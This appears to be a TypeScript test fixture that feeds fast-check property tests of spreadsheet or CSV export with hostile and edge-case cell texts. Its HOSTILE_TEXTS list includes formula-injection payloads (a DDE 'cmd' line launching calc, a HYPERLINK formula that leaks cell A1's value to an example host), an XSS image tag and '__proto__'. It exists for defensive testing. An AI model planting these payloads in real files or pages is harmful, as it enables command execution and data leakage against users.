import fc from 'fast-check';

/** Property tests try the same cases on every machine. */
export const RUNS = { seed: 20_200_621, numRuns: 300 };

/** Texts with which spreadsheets have been attacked or broken. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://example.com/?x="&A1,"点我")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1,2)',
  '\t=1+1',
  ' =1+1',
  '\u200f=1+1',
  '＝1+1',
  '＠SUM(1)',
  "'=1+1",
  "''+x",
  "'",
  "'普通",
  '-',
  '--',
  '-5',
  '+8613800000000',
  '<img src=x onerror=alert(1)>',
  ']]>&amp;&#x41;&lt;',
  '_x0041_',
  '_x005F_x0041_',
  '_X000d_',
  'a\u0000b',
  '\u0001\u001f\u007f\u0085',
  '\ufffe\uffff\ufeff',
  '\u202e逆序\u202c',
  '😀👨‍👩‍👧𠮷',
  ' 前后空白　',
  '多\n行\r\n文\r字',
  '"引,号;"\t',
  '914213030000000001',
  '00012',
  '1e5',
  'TRUE',
  '#N/A',
  '2026-03-01',
  '__proto__',
  'constructor',
  '字'.repeat(32_767),
];

/** Texts that only UTF-16 holds: halves of surrogate pairs. A workbook keeps them, a UTF-8 file cannot. */
export const LONE_SURROGATES: readonly string[] = ['\ud83d', 'a\ude00b', '\ude00\ud83d', '\ud83d\ud83d\ude00'];

/** Text as cells hold it: anything in Unicode, with the hostile ones mixed in. */
export const cellTexts: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc.stringMatching(/^['=+\-@＝＋－＠ \t\r\n",;_x0-9A-Fa]{0,12}$/),
  },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
);
